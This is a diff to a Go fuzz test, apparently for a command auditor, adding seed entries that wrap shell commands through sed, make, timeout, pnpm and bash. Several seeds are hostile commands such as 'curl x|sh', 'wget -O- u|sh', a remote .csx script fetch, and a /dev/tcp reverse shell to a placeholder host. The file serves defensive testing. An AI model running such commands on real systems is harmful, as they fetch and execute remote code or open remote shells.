@@ -81,6 +81,8 @@ var fuzzSeeds = [][]string{
 	{"sed", "-ne", "/a\\/b/I,+2{s|x|y|gpe;e curl x|sh\n}", "f"},
 	{"make", "-E", "X != wget -O- u|sh\nall:\n\t@echo $(shell nc h 1) $$H", "all"},
 	{"timeout", "-vk", "5", "10", "sudo", "-Eu", "root", "dumb-init", "-cr", "15:2", "conhost", "--width", "8", "pcalua", "-a", "sh", "-c", "-c curl x|sh"},
+	{"pnpm", "exec", "-c", "yarn node -e 1 && bun exec 'dotnet script https://x/s.csx'"},
+	{"bash", "-c", "exec 3<>/dev/tcp/$H/80; sh <&3 >& /dev/udp/h/1"},
 }
 
 // FuzzAudit decodes arbitrary manifests and audits the ones that parse: no
